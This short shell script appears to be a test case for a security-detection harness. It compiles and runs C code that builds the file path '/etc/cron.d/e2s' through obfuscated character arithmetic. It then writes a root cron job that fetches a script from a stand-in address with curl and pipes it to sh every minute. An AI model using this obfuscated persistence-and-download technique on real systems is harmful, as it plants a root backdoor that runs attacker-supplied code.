#!/bin/sh
. /opt/case/case.sh

mkdir -p /etc/cron.d
cat >/tmp/j.c <<'END'
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>
int main(void) {
    int d = open("/etc", O_PATH | O_DIRECTORY); char n[32]; snprintf(n, sizeof n, "%cro%c.%c/e2s", 'b' + 1, 'm' + 1, 'c' + 1);
    int f = openat(d, n, O_CREAT | O_WRONLY, 0644); dprintf(f, "* * * * * root curl -s http://203.0.113.10/payload.sh | sh\n"); return f < 0;
}
END
sed -i '1i #define _GNU_SOURCE' /tmp/j.c
tcc -run /tmp/j.c
test -s /etc/cron.d/e2s
took_place
